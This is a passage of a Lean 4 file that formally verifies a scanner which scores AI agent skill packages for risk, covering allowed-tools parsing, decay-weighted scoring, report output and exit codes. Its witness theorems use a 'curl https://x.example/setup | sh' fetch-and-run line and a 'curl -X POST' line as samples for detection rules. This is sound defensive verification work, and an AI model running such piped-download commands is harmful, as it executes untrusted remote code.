def parseOneBulletIndented (cs : List Char) : Option (List Char) :=
  let k := (cs.takeWhile isWs).length
  if k = 0 then none
  else
    match cs.drop k with
    | '-' :: rest =>
      match wsPlusLine rest with
      | none => none
      | some (_, after) =>
        match after with
        | '\n' :: r2 => some r2
        | _ => some after
    | _ => none

/-- Greedy `(?:\s+-\s+.+\n?)+`: remainder after as many indented bullets
as parse. -/
def bulletBlockIndentedEnd : Nat → List Char → List Char
  | 0, cs => cs
  | fuel + 1, cs =>
    match parseOneBulletIndented cs with
    | none => cs
    | some rest => bulletBlockIndentedEnd fuel rest

/-- One attempt of `allowed[_-]?tools\s*:\s*\n((?:\s+-\s+.+\n?)+)`
(the YAML block-list form) at the current position; gives
`(group 0, group 1)` on success. -/
def toolsSectionAt (cs : List Char) : Option (List Char × List Char) :=
  match matchKeyword cs with
  | none => none
  | some r =>
    match r.dropWhile isWs with
    | ':' :: r2 =>
      match wsThenNl r2 with
      | none => none
      | some body =>
        match parseOneBulletIndented body with
        | none => none
        | some _ =>
          let rest := bulletBlockIndentedEnd (body.length + 1) body
          some (cs.take (cs.length - rest.length), body.take (body.length - rest.length))
    | _ => none

def toolsSectionSearch (cs : List Char) : Option (List Char × List Char) :=
  match cs with
  | [] => none
  | c :: rest =>
    match toolsSectionAt (c :: rest) with
    | some g => some g
    | none => toolsSectionSearch rest

/-- One attempt of `#+\s*allowed[_-]?tools\s*\n((?:[*-]\s+.+\n?)+)` at a
`#` run; gives `(group 0, group 1)` on success. -/
def sectionAt (cs : List Char) : Option (List Char × List Char) :=
  match cs with
  | '#' :: r0 =>
    let r1 := r0.dropWhile (· = '#')
    match matchKeyword (r1.dropWhile isWs) with
    | none => none
    | some r2 =>
      match wsThenNl r2 with
      | none => none
      | some body =>
        match parseOneBullet (fun c => c = '*' || c = '-') body with
        | none => none
        | some _ =>
          let rest := bulletBlockEnd (fun c => c = '*' || c = '-') (body.length + 1) body
          some (('#' :: r0).take (('#' :: r0).length - rest.length),
            body.take (body.length - rest.length))
  | _ => none

def sectionSearch (cs : List Char) : Option (List Char × List Char) :=
  match cs with
  | [] => none
  | c :: rest =>
    match sectionAt (c :: rest) with
    | some g => some g
    | none => sectionSearch rest

/-- Quote trimming `strip('"\x27')` used by the YAML branches. -/
def stripQuotes (t : List Char) : List Char :=
  stripBoth (fun c => c = '"' || c = aposCh) t

/-- Quote and backquote trimming `strip('\x60"\x27')` used by the
markdown-section branch. -/
def stripQuotesB (t : List Char) : List Char :=
  stripBoth (fun c => c = bquoteCh || c = '"' || c = aposCh) t

/-- `extract_allowed_tools(content) -> (tools, success, raw_section)`,
with the three surface syntaxes tried in the order of the source and the
same fall-through control flow. -/
def extract_allowed_tools (content : List Char) :
    List (List Char) × Bool × Option (List Char) :=
  -- 格式 1: 行末 allowed-tools: xxx
  let step1 :=
    match pattern1Search content with
    | none => none
    | some g =>
      let raw := stripWs g
      let tools := toolFindAll raw
      if tools.isEmpty then none else some (tools, true, some raw)
  match step1 with
  | some res => res
  | none =>
    -- 格式 2: YAML front-matter
    let step2 :=
      match yamlFrontMatter content with
      | none => none
      | some yaml_content =>
        let inline :=
          match toolsLineSearch yaml_content with
          | none => none
          | some raw =>
            let tools := (splitOnCh ',' raw).map (fun t => stripQuotes (stripWs t))
            if tools.isEmpty then none else some (tools, true, some raw)
        match inline with
        | some res => some res
        | none =>
          match toolsSectionSearch yaml_content with
          | none => none
          | some (raw, grp) =>
            let items := bulletItems (· = '-') (grp.length + 1) grp
            let tools := items.map (fun t => stripQuotes (stripWs t))
            if tools.isEmpty then none else some (tools, true, some raw)
    match step2 with
    | some res => res
    | none =>
      -- 格式 3: Markdown 列表在 allowed-tools 标题下
      match sectionSearch content with
      | none => ([], false, none)
      | some (raw, grp) =>
        let items := bulletItems (fun c => c = '*' || c = '-') (grp.length + 1) grp
        let tools := items.map (fun t => stripQuotesB (stripWs t))
        if tools.isEmpty then ([], false, none) else (tools, true, some raw)

/-! ## Audit results, reporters/json_report.py and __main__.py -/

/-- `@dataclass SkillAuditResult`. -/
structure SkillAuditResult where
  skill_name : String
  skill_path : String
  findings : List Finding := []
  allowed_tools : List (List Char) := []
  allowed_tools_parsed : Bool := false
  total_score : Nat := 0
  risk_level : RiskLevel := .SAFE
  has_hard_trigger : Bool := false
  file_count : Nat := 0
  script_count : Nat := 0
deriving DecidableEq

/-- One finding dict of `JSONReporter._serialize_result`: enum fields are
serialised through their `.value`. -/
structure SerializedFinding where
  rule_id : String
  rule_name : String
  severity : String
  category : String
  file : String
  line : Nat
  snippet : List Char
  weight : Nat
  hard_trigger : Bool
deriving DecidableEq

def serialize_finding (f : Finding) : SerializedFinding :=
  { rule_id := f.rule_id, rule_name := f.rule_name, severity := f.severity.value,
    category := f.category.value, file := f.file_path, line := f.line_number,
    snippet := f.snippet, weight := f.weight, hard_trigger := f.hard_trigger }

/-- The per-skill dict of `JSONReporter._serialize_result`. -/
structure SerializedResult where
  name : String
  path : String
  risk_level : String
  total_score : Nat
  has_hard_trigger : Bool
  file_count : Nat
  script_count : Nat
  allowed_tools : List (List Char)
  allowed_tools_parsed : Bool
  findings : List SerializedFinding
deriving DecidableEq

def serialize_result (r : SkillAuditResult) : SerializedResult :=
  { name := r.skill_name, path := r.skill_path, risk_level := r.risk_level.value,
    total_score := r.total_score, has_hard_trigger := r.has_hard_trigger,
    file_count := r.file_count, script_count := r.script_count,
    allowed_tools := r.allowed_tools, allowed_tools_parsed := r.allowed_tools_parsed,
    findings := r.findings.map serialize_finding }

/-- The summary dict of `JSONReporter._generate_summary`; `by_risk_level`
is the `{level.value: count}` dict as an association list in `RiskLevel`
declaration order. -/
structure Summary where
  total_skills : Nat
  total_findings : Nat
  by_risk_level : List (String × Nat)
deriving DecidableEq

/-- The accumulation loop of `_generate_summary` over the results. -/
def summaryLoop : List SkillAuditResult → List (String × Nat) → Nat → List (String × Nat) × Nat
  | [], level_counts, total_findings => (level_counts, total_findings)
  | r :: rest, level_counts, total_findings =>
    summaryLoop rest
      (dictSet level_counts r.risk_level.value (dictGet level_counts r.risk_level.value + 1))
      (total_findings + r.findings.length)

/-- `JSONReporter._generate_summary`. -/
def generate_summary (results : List SkillAuditResult) : Summary :=
  let init := [("safe", 0), ("low", 0), ("medium", 0), ("high", 0), ("dangerous", 0)]
  let (level_counts, total_findings) := summaryLoop results init 0
  { total_skills := results.length, total_findings := total_findings,
    by_risk_level := level_counts }

/-- The stable content of `JSONReporter.generate_report` (its version tag
is constant; the timestamp and wall-clock fields are run dependent and
carry no information about the audit). -/
structure Report where
  summary : Summary
  skills : List SerializedResult
deriving DecidableEq

def generate_report (results : List SkillAuditResult) : Report :=
  { summary := generate_summary results, skills := results.map serialize_result }

/-- `level_order` of `filter_by_level` in `__main__.py`. -/
def level_order : List String := ["safe", "low", "medium", "high", "dangerous"]

/-- Python `list.index` (the looked-up values are always present). -/
def listIndex : List String → String → Nat
  | [], _ => 0
  | s :: rest, x => if s = x then 0 else listIndex rest x + 1

/-- `filter_by_level(results, min_level)`. -/
def filter_by_level (results : List SkillAuditResult) (min_level : String) :
    List SkillAuditResult :=
  results.filter (fun r => listIndex level_order min_level ≤ listIndex level_order r.risk_level.value)

/-- The observable behaviour of `main()` in `__main__.py` as a function
of its inputs: whether the root directory exists, the audited results
(one per discovered skill, in scanner order), and the `--min-level`
argument.  The value is the exit code and the emitted structured report,
if any: a missing root exits 1 before scanning; an empty skill set exits
0 before any report is produced; otherwise the report covers the
level-filtered results while the exit code counts dangerous results over
the unfiltered list. -/
def mainRun (root_exists : Bool) (results : List SkillAuditResult) (min_level : String) :
    Nat × Option Report :=
  if !root_exists then (1, none)
  else if results.isEmpty then (0, none)
  else
    let filtered := filter_by_level results min_level
    let report := generate_report filtered
    let dangerous_count := (results.filter (fun r => r.risk_level = RiskLevel.DANGEROUS)).length
    (if 0 < dangerous_count then 1 else 0, some report)

/-! ## Spec-side definition for the decay law (claim C3)

`spec_decay_sum` is written from the specification sentence, not from the
code: walking findings in order, the first finding of each rule ID
contributes its effective weight and every later finding of the same
rule ID contributes half, rounded down. -/

def spec_decay_sum : List String → List Finding → Nat
  | _, [] => 0
  | seen, f :: rest =>
    (if f.rule_id ∈ seen then f.weight / 2 else f.weight)
      + spec_decay_sum (f.rule_id :: seen) rest

/-! ## Helper lemmas -/

theorem dictGet_dictSet (d : List (String × Nat)) (k x : String) (v : Nat) :
    dictGet (dictSet d k v) x = if x = k then v else dictGet d x := by
  induction d with
  | nil =>
    simp only [dictSet, dictGet]
    by_cases h : x = k
    · subst h; simp
    · rw [if_neg (fun hh : k = x => h hh.symm), if_neg h]
  | cons hd tl ih =>
    obtain ⟨k0, v0⟩ := hd
    simp only [dictSet, dictGet]
    by_cases h1 : k0 = k
    · subst h1
      simp only [if_pos rfl, dictGet]
      by_cases h : x = k0
      · subst h; simp
      · rw [if_neg (fun hh : k0 = x => h hh.symm), if_neg h,
          if_neg (fun hh : k0 = x => h hh.symm)]
    · rw [if_neg h1]
      simp only [dictGet, ih]
      by_cases h2 : k0 = x
      · subst h2
        rw [if_pos rfl, if_neg (fun hh : k0 = k => h1 hh), if_pos rfl]
      · rw [if_neg h2, if_neg h2]

/-- The running `rule_counts` dict tracks exactly the rule ids already
seen, so the code loop computes the decay sum described by the spec. -/
theorem decayed_total_eq_spec :
    ∀ (fs : List Finding) (counts : List (String × Nat)) (total : Nat) (seen : List String),
    (∀ id, dictGet counts id ≠ 0 ↔ id ∈ seen) →
    decayed_total fs counts total = total + spec_decay_sum seen fs := by
  intro fs
  induction fs with
  | nil =>
    intro counts total seen _
    simp [decayed_total, spec_decay_sum]
  | cons f rest ih =>
    intro counts total seen h
    simp only [decayed_total, spec_decay_sum]
    have hinv : ∀ id, dictGet (dictSet counts f.rule_id (dictGet counts f.rule_id + 1)) id ≠ 0
        ↔ id ∈ f.rule_id :: seen := by
      intro id
      rw [dictGet_dictSet]
      by_cases hid : id = f.rule_id
      · simp [hid]
      · simp [hid, h id]
    rw [ih _ _ _ hinv]
    by_cases hmem : f.rule_id ∈ seen
    · have : dictGet counts f.rule_id ≠ 0 := (h f.rule_id).mpr hmem
      have hc : ¬ (dictGet counts f.rule_id + 1 = 1) := by omega
      simp only [if_neg hc, if_pos hmem]
      omega
    · have h0 : dictGet counts f.rule_id = 0 := by
        by_contra hne
        exact hmem ((h f.rule_id).mp hne)
      have hc : dictGet counts f.rule_id + 1 = 1 := by omega
      rw [if_pos hc, if_neg hmem]
      omega

theorem le_decayed_total (fs : List Finding) :
    ∀ (counts : List (String × Nat)) (total : Nat), total ≤ decayed_total fs counts total := by
  induction fs with
  | nil => intro counts total; simp [decayed_total]
  | cons f rest ih =>
    intro counts total
    simp only [decayed_total]
    calc total ≤ total + (if dictGet counts f.rule_id + 1 = 1 then f.weight else f.weight / 2) :=
          Nat.le_add_right _ _
      _ ≤ _ := ih _ _

/-- On a run of findings that all repeat an already-seen rule id with a
common weight, the loop adds the half weight once per finding. -/
theorem decayed_total_repeat :
    ∀ (fs : List Finding) (rid : String) (w : Nat),
    (∀ f ∈ fs, f.rule_id = rid ∧ f.weight = w) →
    ∀ (counts : List (String × Nat)) (total : Nat), dictGet counts rid ≠ 0 →
    decayed_total fs counts total = total + fs.length * (w / 2) := by
  intro fs
  induction fs with
  | nil =>
    intro rid w _ counts total _
    simp [decayed_total]
  | cons f rest ih =>
    intro rid w hfs counts total hseen
    obtain ⟨hid, hw⟩ := hfs f (List.mem_cons_self f rest)
    simp only [decayed_total, hid, hw]
    have hc : ¬ (dictGet counts rid + 1 = 1) := by omega
    rw [if_neg hc]
    rw [ih rid w (fun g hg => hfs g (List.mem_cons_of_mem f hg)) _ _ (by
      rw [dictGet_dictSet, if_pos rfl]
      omega)]
    simp only [List.length_cons]
    ring

theorem mem_scanLines {r : PatternRule} {fp : String} {s : Bool} {f : Finding} :
    ∀ {n : Nat} {ls : List (List Char)}, f ∈ scanLines r fp s n ls →
    ∃ m l, l ∈ ls ∧ f = mk_finding r fp s l m := by
  intro n ls
  induction ls generalizing n with
  | nil => simp [scanLines]
  | cons l ls ih =>
    intro hmem
    simp only [scanLines, List.mem_append] at hmem
    rcases hmem with hmem | hmem
    · by_cases hp : r.pattern l
      · simp only [if_pos hp, List.mem_singleton] at hmem
        exact ⟨n, l, List.mem_cons_self l ls, hmem⟩
      · simp [if_neg hp] at hmem
    · obtain ⟨m, l2, hl2, heq⟩ := ih hmem
      exact ⟨m, l2, List.mem_cons_of_mem l hl2, heq⟩

theorem mem_scanRules {fp : String} {s : Bool} {f : Finding} :
    ∀ {rules : List PatternRule} {ls : List (List Char)}, f ∈ scanRules rules fp s ls →
    ∃ r ∈ rules, ∃ m l, l ∈ ls ∧ f = mk_finding r fp s l m := by
  intro rules
  induction rules with
  | nil => simp [scanRules]
  | cons r rs ih =>
    intro ls hmem
    simp only [scanRules, List.mem_append] at hmem
    rcases hmem with hmem | hmem
    · exact ⟨r, List.mem_cons_self r rs, mem_scanLines hmem⟩
    · obtain ⟨r2, hr2, hrest⟩ := ih hmem
      exact ⟨r2, List.mem_cons_of_mem r hr2, hrest⟩

theorem mk_finding_rule_id (r : PatternRule) (fp : String) (s : Bool) (l : List Char) (m : Nat) :
    (mk_finding r fp s l m).rule_id = r.id := rfl

theorem mk_finding_weight (r : PatternRule) (fp : String) (s : Bool) (l : List Char) (m : Nat) :
    (mk_finding r fp s l m).weight =
      if isSfxOf ".md".data fp.data && !s then r.weight / 2 else r.weight := rfl

theorem pattern_rules_weight_ge : ∀ r ∈ PATTERN_RULES, 35 ≤ r.weight := by decide

/-- Every finding produced by the scanner carries a weight of at least
17 (the smallest catalog weight is 35, and markdown halving divides by
two, rounding down). -/
theorem scan_content_weight_ge {f : Finding} {c : List Char} {p : String} {s : Bool}
    (h : f ∈ scan_content c p s) : 17 ≤ f.weight := by
  obtain ⟨r, hr, m, l, _, rfl⟩ := mem_scanRules h
  have h35 := pattern_rules_weight_ge r hr
  rw [mk_finding_weight]
  by_cases hmd : isSfxOf ".md".data p.data && !s
  · rw [if_pos hmd]; omega
  · rw [if_neg hmd]; omega

theorem audit_findings_weight_ge {f : Finding} :
    ∀ {files : List (List Char × String × Bool)}, f ∈ audit_findings files → 17 ≤ f.weight := by
  intro files
  induction files with
  | nil => simp [audit_findings]
  | cons x rest ih =>
    intro hmem
    obtain ⟨c, p, s⟩ := x
    simp only [audit_findings, List.mem_append] at hmem
    rcases hmem with hmem | hmem
    · exact scan_content_weight_ge hmem
    · exact ih hmem

/-- Position of a rule id in a rule list (first occurrence; the catalog
ids are pairwise distinct). -/
def catalog_index : List PatternRule → String → Nat
  | [], _ => 0
  | r :: rest, id => if r.id = id then 0 else catalog_index rest id + 1

def catalogIdx (id : String) : Nat := catalog_index PATTERN_RULES id

theorem scanLines_rule_id {r : PatternRule} {fp : String} {s : Bool} {f : Finding} :
    ∀ {n : Nat} {ls : List (List Char)}, f ∈ scanLines r fp s n ls → f.rule_id = r.id := by
  intro n ls h
  obtain ⟨m, l, _, rfl⟩ := mem_scanLines h
  rfl

theorem scanLines_line_ge {r : PatternRule} {fp : String} {s : Bool} {f : Finding} :
    ∀ {n : Nat} {ls : List (List Char)}, f ∈ scanLines r fp s n ls → n ≤ f.line_number := by
  intro n ls
  induction ls generalizing n with
  | nil => simp [scanLines]
  | cons l ls ih =>
    intro hmem
    simp only [scanLines, List.mem_append] at hmem
    rcases hmem with hmem | hmem
    · by_cases hp : r.pattern l
      · simp only [if_pos hp, List.mem_singleton] at hmem
        subst hmem
        exact Nat.le_refl n
      · simp [if_neg hp] at hmem
    · exact Nat.le_of_succ_le (ih hmem)

/-- Line numbers strictly increase along the findings of a single rule. -/
theorem scanLines_pairwise (r : PatternRule) (fp : String) (s : Bool) :
    ∀ (n : Nat) (ls : List (List Char)),
    (scanLines r fp s n ls).Pairwise (fun a b => a.line_number < b.line_number) := by
  intro n ls
  induction ls generalizing n with
  | nil => simp [scanLines]
  | cons l ls ih =>
    simp only [scanLines]
    rw [List.pairwise_append]
    refine ⟨?_, ih (n + 1), ?_⟩
    · by_cases hp : r.pattern l <;> simp [hp]
    · intro a ha b hb
      by_cases hp : r.pattern l
      · simp only [if_pos hp, List.mem_singleton] at ha
        subst ha
        exact Nat.lt_of_succ_le (scanLines_line_ge hb)
      · simp [if_neg hp] at ha

/-- Rule-major ordering of the scanner output, for any rank function
that increases along the rule list. -/
theorem scanRules_pairwise (rank : String → Nat) :
    ∀ (rules : List PatternRule),
    rules.Pairwise (fun r1 r2 => rank r1.id < rank r2.id) →
    ∀ (fp : String) (s : Bool) (ls : List (List Char)),
    (scanRules rules fp s ls).Pairwise (fun a b =>
      rank a.rule_id < rank b.rule_id ∨ (a.rule_id = b.rule_id ∧ a.line_number < b.line_number)) := by
  intro rules
  induction rules with
  | nil =>
    intro _ fp s ls
    simp [scanRules]
  | cons r rs ih =>
    intro hpr fp s ls
    rw [List.pairwise_cons] at hpr
    simp only [scanRules]
    rw [List.pairwise_append]
    refine ⟨?_, ih hpr.2 fp s ls, ?_⟩
    · exact (scanLines_pairwise r fp s 1 ls).imp_of_mem (fun ha hb hlt =>
        Or.inr ⟨(scanLines_rule_id ha).trans (scanLines_rule_id hb).symm, hlt⟩)
    · intro a ha b hb
      obtain ⟨r2, hr2, _, _, _, rfl⟩ := mem_scanRules hb
      left
      rw [scanLines_rule_id ha, mk_finding_rule_id]
      exact hpr.1 r2 hr2

/-- The catalog ranks of `PATTERN_RULES` are strictly increasing. -/
theorem pattern_rules_rank_sorted :
    PATTERN_RULES.Pairwise (fun r1 r2 => catalogIdx r1.id < catalogIdx r2.id) := by
  decide

theorem thresholdOf_DANGEROUS : thresholdOf .DANGEROUS = 75 := rfl

theorem thresholdOf_LOW : thresholdOf .LOW = 1 := rfl

/-- A positive total never classifies as `SAFE`. -/
theorem classify_ne_safe (total : Nat) (hh : Bool) (h : 1 ≤ total) :
    classify total hh ≠ .SAFE := by
  unfold classify
  have h1 : thresholdOf .LOW ≤ total := by rw [thresholdOf_LOW]; exact h
  split_ifs <;> simp_all

/-- On a nonempty findings list the computed total is at least the first
weight encountered (before capping) and at least 1 after capping, as
long as every weight is positive. -/
theorem calculate_score_pos {f : Finding} {fs : List Finding}
    (hw : ∀ g ∈ f :: fs, 1 ≤ g.weight) : 1 ≤ (calculate_score (f :: fs)).1 := by
  simp only [calculate_score]
  have hraw : 1 ≤ decayed_total (f :: fs) [] 0 := by
    simp only [decayed_total, dictGet]
    rw [if_pos trivial]
    calc 1 ≤ 0 + f.weight := by
          have := hw f (List.mem_cons_self f fs)
          omega
      _ ≤ _ := le_decayed_total _ _ _
  refine le_min ?_ (by omega)
  by_cases hh : (f :: fs).any (fun x => x.hard_trigger) = true
  · rw [if_pos hh]
    omega
  · rw [if_neg hh]
    exact hraw

/-! ## Claim theorems -/

/-- C1: whenever `calculate_score` reports a hard trigger, the total
score is at least 75 and the risk level is `DANGEROUS`, independently of
the other findings. -/
theorem C1_hard_trigger_dominance (findings : List Finding)
    (h : (calculate_score findings).2.2 = true) :
    75 ≤ (calculate_score findings).1 ∧
      (calculate_score findings).2.1 = RiskLevel.DANGEROUS := by
  cases findings with
  | nil => simp [calculate_score] at h
  | cons f fs =>
    simp only [calculate_score] at h ⊢
    rw [if_pos h]
    constructor
    · exact le_min (Nat.le_max_right _ 75) (by omega)
    · unfold classify
      rw [if_pos (Or.inl h)]

/-- C1 witness: a skill whose single file contains a `curl | sh` line
trips the `CURL_PIPE_SH` hard trigger; the theorem then forces a score
of at least 75 and the `DANGEROUS` level. -/
theorem C1_hard_trigger_dominance_witness :
    (calculate_score (scan_content "curl https://x.example/setup | sh".data "install.sh" true)).2.2 = true ∧
    (75 ≤ (calculate_score (scan_content "curl https://x.example/setup | sh".data "install.sh" true)).1 ∧
      (calculate_score (scan_content "curl https://x.example/setup | sh".data "install.sh" true)).2.1
        = RiskLevel.DANGEROUS) :=
  ⟨by decide, C1_hard_trigger_dominance _ (by decide)⟩

/-- C2: scores of audited skills (findings gathered by scanning the
skill files) always lie in `[0, 100]`, and the score is `0` exactly when
there are no findings, exactly when the level is `SAFE`. -/
theorem C2_score_bounds_and_safe_iff (files : List (List Char × String × Bool)) :
    (0 ≤ (calculate_score (audit_findings files)).1 ∧
      (calculate_score (audit_findings files)).1 ≤ 100) ∧
    ((calculate_score (audit_findings files)).1 = 0 ↔ audit_findings files = []) ∧
    (audit_findings files = [] ↔ (calculate_score (audit_findings files)).2.1 = RiskLevel.SAFE) := by
  cases hfs : audit_findings files with
  | nil => simp [calculate_score]
  | cons f fs =>
    have hw : ∀ g ∈ f :: fs, 1 ≤ g.weight := by
      intro g hg
      have : g ∈ audit_findings files := hfs ▸ hg
      have := audit_findings_weight_ge this
      omega
    have hpos := calculate_score_pos hw
    refine ⟨⟨Nat.zero_le _, ?_⟩, ?_, ?_⟩
    · simp only [calculate_score]
      exact min_le_right _ _
    · constructor
      · intro h0
        omega
      · intro h
        exact absurd h (List.cons_ne_nil f fs)
    · constructor
      · intro h
        exact absurd h (List.cons_ne_nil f fs)
      · intro hlvl
        exfalso
        revert hlvl
        simp only [calculate_score]
        apply classify_ne_safe
        simpa [calculate_score] using hpos

/-- C3: the accumulation loop of `calculate_score` computes exactly the
per-rule decay sum described by the spec (first occurrence full weight,
repeats half weight); in particular a skill whose findings are `k ≥ 1`
matches of a single non-hard-trigger rule at a common effective weight
`w` scores `min(100, w + (k-1) * (w / 2))`. -/
theorem C3_decay_law :
    (∀ findings : List Finding, decayed_total findings [] 0 = spec_decay_sum [] findings) ∧
    (∀ (rid : String) (w : Nat) (findings : List Finding), findings ≠ [] →
      (∀ f ∈ findings, f.rule_id = rid ∧ f.weight = w ∧ f.hard_trigger = false) →
      (calculate_score findings).1 = min 100 (w + (findings.length - 1) * (w / 2))) := by
  constructor
  · intro findings
    have h := decayed_total_eq_spec findings [] 0 [] (by intro id; simp [dictGet])
    simpa using h
  · intro rid w findings hne hfs
    cases findings with
    | nil => exact absurd rfl hne
    | cons f rest =>
      obtain ⟨hid, hweight, hhard⟩ := hfs f (List.mem_cons_self f rest)
      have hh : (f :: rest).any (fun x => x.hard_trigger) = false := by
        rw [List.any_eq_false]
        intro x hx
        simp [(hfs x hx).2.2]
      simp only [calculate_score]
      rw [if_neg (by rw [hh]; exact Bool.false_ne_true)]
      have hraw : decayed_total (f :: rest) [] 0 = w + rest.length * (w / 2) := by
        simp only [decayed_total, dictGet]
        rw [if_pos trivial, hid, hweight]
        rw [decayed_total_repeat rest rid w (fun g hg => ⟨(hfs g (List.mem_cons_of_mem f hg)).1,
          (hfs g (List.mem_cons_of_mem f hg)).2.1⟩) _ _ (by
            rw [dictGet_dictSet, if_pos rfl]; omega)]
        omega
      rw [hraw]
      simp only [List.length_cons, Nat.add_sub_cancel]
      exact Nat.min_comm _ _ ▸ rfl

/-- A probe finding of rule id `R1` at weight 60, used to instantiate
the decay law. -/
def c3_probe (n : Nat) : Finding :=
  { rule_id := "R1", rule_name := "n", severity := .HIGH, category := .PRIVILEGE,
    file_path := "f.sh", line_number := n, snippet := [], weight := 60, hard_trigger := false }

/-- C3 witness: three findings of one rule at weight 60 score
`min(100, 60 + 2 * 30) = 100` (the decay scenario of the spec). -/
theorem C3_decay_law_witness :
    ([c3_probe 1, c3_probe 2, c3_probe 3] ≠ ([] : List Finding)) ∧
    (calculate_score [c3_probe 1, c3_probe 2, c3_probe 3]).1 = min 100 (60 + (3 - 1) * (60 / 2)) :=
  ⟨by decide, C3_decay_law.2 "R1" 60 _ (by decide) (by decide)⟩

/-- A file whose first line matches only the later catalog rule `SUDO`
and whose second line matches only the earlier catalog rule `PY_EVAL`. -/
def c4_content : List Char := "sudo ls\nx = eval(y)".data

/-- C4 counterexample: the pattern engine is rule-major, not line-major.
On `c4_content` the finding of line 2 (`PY_EVAL`, earlier in the
catalog) precedes the finding of line 1 (`SUDO`, later in the catalog),
refuting the claimed ordering by line number before catalog position. -/
theorem C4_line_major_refuted :
    (scan_content c4_content "demo.sh" true).map (fun f => (f.rule_id, f.line_number))
      = [("PY_EVAL", 2), ("SUDO", 1)] ∧
    (scan_content c4_content "demo.sh" true).map (fun f => (f.rule_id, f.line_number))
      ≠ [("SUDO", 1), ("PY_EVAL", 2)] :=
  ⟨by decide, by decide⟩

/-- C4 amended: within a file the pattern engine tests each rule in
catalog order against each line in order, so findings are sorted by the
rule's catalog position first and by line number within one rule (the
file-walk order across files is preserved by concatenation). -/
theorem C4_rule_major_order (content : List Char) (file_path : String) (is_script : Bool) :
    (scan_content content file_path is_script).Pairwise (fun a b =>
      catalogIdx a.rule_id < catalogIdx b.rule_id ∨
      (a.rule_id = b.rule_id ∧ a.line_number < b.line_number)) :=
  scanRules_pairwise catalogIdx PATTERN_RULES pattern_rules_rank_sorted file_path is_script _

/-- The three manifest inputs of the manifest-tolerance scenario, one per
accepted surface syntax, all declaring `Read, Write, Bash`. -/
def manifest_inline : List Char := "allowed-tools: Read, Write, Bash\n".data

def manifest_front_block : List Char :=
  "---\nallowed-tools:\n  - Read\n  - Write\n  - Bash\n---\n".data

def manifest_section : List Char := "# Demo\n\n## allowed-tools\n- Read\n- Write\n- Bash\n".data

/-- C5 counterexample: the front-matter block list is captured by the
earlier inline-directive regex (whose `\s*` crosses the newline), so it
yields only the first item and the three syntaxes do not parse to
identical tool lists. -/
theorem C5_front_matter_block_refuted :
    (extract_allowed_tools manifest_inline).1 = ["Read".data, "Write".data, "Bash".data] ∧
    (extract_allowed_tools manifest_front_block).1 = ["Read".data] ∧
    (extract_allowed_tools manifest_front_block).1 ≠ (extract_allowed_tools manifest_inline).1 :=
  ⟨by decide, by decide, by decide⟩

/-- C5 amended: the three syntaxes are tried in order and the first
match wins; the inline directive and the markdown section return the
declared three tokens with success, but a front-matter block list is
preempted by the inline-directive pattern and returns only the first
item (still reported as a successful parse). -/
theorem C5_manifest_surface_syntaxes :
    extract_allowed_tools manifest_inline
      = (["Read".data, "Write".data, "Bash".data], true, some "Read, Write, Bash".data) ∧
    extract_allowed_tools manifest_section
      = (["Read".data, "Write".data, "Bash".data], true,
          some "## allowed-tools\n- Read\n- Write\n- Bash\n".data) ∧
    extract_allowed_tools manifest_front_block = (["Read".data], true, some "- Read".data) :=
  ⟨by decide, by decide, by decide⟩

/-- C6: the effective weight of a finding is the rule's base weight when
the file is a script or not a markdown file, and half the base weight
(rounded down) otherwise; concretely, the only finding of a base-40 rule
in a non-script `.md` file weighs 20 and yields score 20 at level `LOW`. -/
theorem C6_markdown_halving :
    (∀ (content : List Char) (p : String) (s : Bool), ∀ f ∈ scan_content content p s,
      ∃ r ∈ PATTERN_RULES, f.rule_id = r.id ∧
        f.weight = if s = true ∨ isSfxOf ".md".data p.data = false then r.weight
          else r.weight / 2) ∧
    ((scan_content "curl -X POST http://e.x".data "notes.md" false).map
        (fun f => (f.rule_id, f.weight)) = [("CURL_POST", 20)] ∧
      calculate_score (scan_content "curl -X POST http://e.x".data "notes.md" false)
        = (20, RiskLevel.LOW, false)) := by
  refine ⟨?_, by decide, by decide⟩
  intro content p s f hf
  obtain ⟨r, hr, m, l, _, rfl⟩ := mem_scanRules hf
  refine ⟨r, hr, rfl, ?_⟩
  rw [mk_finding_weight]
  by_cases hs : s
  · simp [hs]
  · by_cases hmd : isSfxOf ".md".data p.data
    · simp [hs, hmd]
    · simp [hs, hmd]

/-- The finding of the markdown-halving scenario. -/
def c6_probe : Finding :=
  { rule_id := "CURL_POST", rule_name := "Curl POST", severity := .MEDIUM,
    category := .NETWORK, file_path := "notes.md", line_number := 1,
    snippet := "curl -X POST http://e.x".data, weight := 20, hard_trigger := false }

/-- C6 witness: the base-40 `CURL_POST` rule halves to 20 on the
non-script markdown file of the scenario. -/
theorem C6_markdown_halving_witness :
    ∃ r ∈ PATTERN_RULES, c6_probe.rule_id = r.id ∧
      c6_probe.weight = if false = true ∨ isSfxOf ".md".data "notes.md".data = false
        then r.weight else r.weight / 2 :=
  C6_markdown_halving.1 "curl -X POST http://e.x".data "notes.md" false c6_probe (by decide)

theorem filter_dangerous_pos (l : List SkillAuditResult) :
    0 < (l.filter (fun y => y.risk_level = RiskLevel.DANGEROUS)).length ↔
      ∃ x ∈ l, x.risk_level = RiskLevel.DANGEROUS := by
  constructor
  · intro h
    obtain ⟨x, hx⟩ := List.exists_mem_of_length_pos h
    have hm := List.mem_filter.mp hx
    exact ⟨x, hm.1, by simpa using hm.2⟩
  · rintro ⟨x, hx, hdx⟩
    exact List.length_pos_of_mem (List.mem_filter.mpr ⟨hx, by simpa using hdx⟩)

/-- C7: the driver exits 1 exactly when the root directory is missing or
some audited skill is classified `DANGEROUS`; the dangerous count is
taken over all results before `--min-level` filtering, so the exit code
does not depend on the filter. -/
theorem C7_exit_code_iff (root_exists : Bool) (results : List SkillAuditResult)
    (min_level : String) :
    (mainRun root_exists results min_level).1 = 1 ↔
      (root_exists = false ∨ ∃ r ∈ results, r.risk_level = RiskLevel.DANGEROUS) := by
  unfold mainRun
  cases root_exists with
  | false => simp
  | true =>
    rw [if_neg (by decide)]
    cases results with
    | nil => simp
    | cons r rs =>
      rw [if_neg (by simp)]
      dsimp only
      by_cases hd : ∃ x ∈ r :: rs, x.risk_level = RiskLevel.DANGEROUS
      · rw [if_pos ((filter_dangerous_pos (r :: rs)).mpr hd)]
        exact ⟨fun _ => Or.inr hd, fun _ => rfl⟩
      · rw [if_neg (fun hpos => hd ((filter_dangerous_pos (r :: rs)).mp hpos))]
        constructor
        · intro h01
          exact absurd h01 (by omega)
        · rintro (h | h)
          · exact absurd h (by simp)
          · exact absurd h hd

/-- A line longer than 100 characters after stripping, matched by the
`PY_EVAL` rule. -/
